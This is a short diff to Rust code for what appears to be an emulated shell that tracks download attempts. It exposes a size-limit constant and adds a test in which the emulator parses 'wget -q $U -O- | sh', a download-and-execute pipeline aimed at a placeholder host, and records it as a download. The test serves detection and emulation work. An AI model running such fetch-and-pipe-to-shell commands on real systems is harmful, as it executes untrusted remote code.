@@ -40,7 +40,7 @@ pub const MAX_STEPS: usize = 1024;
 /// Most bytes of shell variables (`NAME=value`, `export`) one session keeps.
 pub const MAX_VARS_BYTES: usize = 64 * 1024;
 /// Most bytes one command's words expand to (variables, globs).
-const MAX_EXPANDED: usize = 256 * 1024;
+pub const MAX_EXPANDED: usize = 256 * 1024;
 /// Most paths one glob expands to.
 const MAX_GLOB: usize = 1024;
 /// Deepest nesting of `sh -c`, `sh FILE`, executed scripts and `nohup`/`exec`/`busybox`
@@ -1128,6 +1128,8 @@ mod tests {
             ]
         );
         assert!(d.file(b"/root/f").is_some());
+        let o = d.run_line(b"U=http://h/v.sh; wget -q $U -O- | sh");
+        assert_eq!(downloads(&o), vec![(b"http://h/v.sh".to_vec(), "wget", None)]);
         let o = d.run_line(b"wget --output-document=/tmp/q http://h/q");
         assert_eq!(downloads(&o)[0].2, Some(b"/tmp/q".to_vec()));
         assert!(o.output.windows(9).any(|w| w == b"saved [0/"));
